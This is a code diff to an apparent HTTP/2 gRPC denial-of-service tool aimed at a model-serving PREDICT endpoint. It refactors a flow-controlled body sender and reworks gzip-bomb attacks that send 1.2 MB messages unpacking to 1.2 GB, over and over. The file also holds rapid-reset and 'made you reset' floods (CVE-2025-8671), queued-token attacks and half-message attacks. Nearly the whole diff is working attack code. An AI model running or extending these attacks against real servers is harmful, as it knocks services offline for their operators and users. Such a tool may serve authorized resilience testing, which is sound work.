@@ -13,6 +13,7 @@ import asyncio
 import json
 import os
 import ssl
+import struct
 import sys
 import time
 import zlib
@@ -140,6 +141,37 @@ async def _together(ones: Any) -> None:
             group.create_task(one)
 
 
+class Body:
+    """Sends a stream's bytes as fast as the server gives room for them.
+
+    Args:
+        connection: Whose.
+        stream: Which.
+    """
+
+    def __init__(self, connection: RawConnection, stream: int) -> None:
+        self._connection = connection
+        self._stream = stream
+
+    async def send(self, body: bytes) -> bool:
+        """Send it; False if the stream or the connection ended first."""
+        at, connection = 0, self._connection
+        while at < len(body):
+            room = min(frames.WINDOW + connection.windows[number] for number in (0, self._stream))
+            if room > 0:
+                piece = body[at : at + room]
+                at += len(piece)
+                for number in (0, self._stream):
+                    connection.windows[number] -= len(piece)
+                connection.say(frames.data(self._stream, piece))
+                await asyncio.sleep(0)
+            elif not await connection.next_told():
+                return False
+            if self._stream in connection.streams_ended or not await connection.drain():
+                return False
+        return True
+
+
 def _stream(number: int) -> int:
     return 2 * number + 1
 
@@ -168,7 +200,6 @@ def _gzip_of_zeros(megabytes: int) -> bytes:
     check = 0
     for _ in range(megabytes):
         check = zlib.crc32(megabyte, check)
-    size = (megabytes << 20) & 0xFFFFFFFF
     return (
         b"\x1f\x8b\x08\0\0\0\0\0\0\xff"
         + once * megabytes
@@ -178,32 +209,34 @@ def _gzip_of_zeros(megabytes: int) -> bytes:
     )
 
 
-async def _bombs(attack: Attack, megabytes: int, streams: int, per_second: float) -> None:
-    bomb = _gzip_of_zeros(megabytes)
-    body = frames.grpc_message(bomb, packed=True)
-    more = ((b"grpc-encoding", b"gzip"),)
+async def _bombs(attack: Attack, megabytes: int, streams: int) -> None:
+    """Over and over: a connection, so many calls at once, a bomb in each, half a second's pause."""
+    body = frames.grpc_message(_gzip_of_zeros(megabytes), packed=True)
+    block = _block(PREDICT, (b"grpc-encoding", b"gzip"))
 
-    def make(number: int) -> bytes:
-        first = number * streams
-        return b"".join(
-            frames.headers(_stream(first + at), _block(PREDICT, *more))
-            + frames.data(_stream(first + at), body)
-            for at in range(streams)
-        )
+    async def throw(connection: RawConnection, stream: int) -> None:
+        connection.say(frames.headers(stream, block))
+        await Body(connection, stream).send(body)
+        attack.sent += 1
 
-    await _flood(attack, make, per_second)
+    while True:
+        connection = await attack.connect()
+        await _together(throw(connection, _stream(number)) for number in range(streams))
+        await asyncio.sleep(0.5)
+        connection.transport.abort()
+        attack.connections.remove(connection)
 
 
 @attack
 async def gzip_bomb(attack: Attack) -> None:
-    """One message of 1.2 MB that unpacks to 1.2 GB, twice a second."""
-    await _bombs(attack, 1200, 1, 2)
+    """A message of 1.2 MB that unpacks to 1.2 GB, twice a second."""
+    await _bombs(attack, 1200, 1)
 
 
 @attack
 async def gzip_bombs(attack: Attack) -> None:
     """32 messages of 65 kB that unpack to 65 MB each, twice a second."""
-    await _bombs(attack, 65, 32, 2)
+    await _bombs(attack, 65, 32)
 
 
 # --------------------------------------------------------------------------------- streams that cost little
@@ -234,7 +267,7 @@ async def rapid_reset(attack: Attack) -> None:
 
 @attack
 async def made_you_reset(attack: Attack) -> None:
-    """A call and a frame that makes the server reset it, 5,000 a second over 4 connections (CVE-2025-8671)."""
+    """Calls, each with a frame that makes the server reset it; as fast as those above (CVE-2025-8671)."""
 
     def make(number: int) -> bytes:
         stream = _stream(number)
@@ -399,30 +432,6 @@ async def generations(attack: Attack) -> None:
     await _together(one() for _ in range(64))
 
 
-class _Body:
-    """Sends a stream's bytes as fast as the server gives room for them."""
-
-    def __init__(self, connection: RawConnection, stream: int) -> None:
-        self._connection = connection
-        self._stream = stream
-        self._sent = 0
-
-    async def send(self, body: bytes) -> bool:
-        """Send it; False if the stream or the connection ended first."""
-        while body:
-            room = min(65_535 + self._connection.windows[at] for at in (0, self._stream)) - self._sent
-            if room > 0:
-                piece, body = body[:room], body[room:]
-                self._sent += len(piece)
-                self._connection.say(frames.data(self._stream, piece))
-                await asyncio.sleep(0)
-            elif not await self._connection.next_told():
-                return False
-            if self._stream in self._connection.streams_ended or not await self._connection.drain():
-                return False
-        return True
-
-
 async def _bodies(
     attack: Attack, bodies: Callable[[], list[bytes]], pause: float, connections: int = 1
 ) -> None:
@@ -432,7 +441,7 @@ async def _bodies(
         while True:
             connection = await attack.connect()
             connection.say(frames.headers(1, _block(PREDICT)))
-            body = _Body(connection, 1)
+            body = Body(connection, 1)
             for message in bodies():
                 if not await body.send(frames.grpc_message(message)):
                     break
@@ -456,7 +465,7 @@ async def queued_tokens(attack: Attack) -> None:
     while True:
         connection = await attack.connect()
         connection.say(frames.headers(1, _block(PREDICT)))
-        await _Body(connection, 1).send(frames.grpc_message(request.SerializeToString()))
+        await Body(connection, 1).send(frames.grpc_message(request.SerializeToString()))
         attack.sent += 1
         connection.say(frames.data(1, b"", end=True))
         while 1 not in connection.streams_ended and await connection.next_told():
@@ -488,7 +497,7 @@ async def half_messages(attack: Attack) -> None:
         while True:
             connection = await attack.connect()
             connection.say(frames.headers(1, _block(PREDICT)))
-            if await _Body(connection, 1).send(body):
+            if await Body(connection, 1).send(body):
                 attack.sent += 1
                 await connection.closed.wait()
             await asyncio.sleep(1)
